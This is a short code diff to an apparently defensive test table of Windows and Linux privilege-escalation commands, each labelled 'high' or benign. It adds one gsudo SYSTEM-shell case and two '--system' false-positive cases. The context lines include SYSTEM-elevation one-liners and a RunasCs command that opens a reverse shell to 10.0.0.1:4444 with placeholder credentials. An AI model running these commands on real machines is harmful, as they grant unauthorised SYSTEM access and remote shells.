@@ -109,6 +109,7 @@ TOKEN_RUNS = [
     ("AdvancedRun.exe /EXEFilename \"C:\\Windows\\System32\\cmd.exe\" /RunAs 4 /Run", "high"),
     ("devxexec.exe /user:TrustedInstaller cmd", "high"),
     ("gsudo --system cmd", "high"),
+    ("gsudo -s powershell", "high"),
     ("RunAsTI.exe cmd", "high"),
     ("Invoke-CommandAs -ScriptBlock { whoami } -AsSystem", "high"),
     ("RunasCs.exe svc_web Passw0rd cmd.exe -r 10.0.0.1:4444", "high"),
@@ -144,6 +145,8 @@ TOKEN_RUNS = [
     ("docker run -v /srv/data:/mnt alpine chroot /mnt sh", None),
     ("chroot /mnt/sysroot /bin/bash", None),
     ("git config --system core.autocrlf true", None),
+    ("flatpak run --system org.gnome.Terminal", None),
+    ("pip install --system cmd2", None),
 ]
 
 WAYS_IN = [
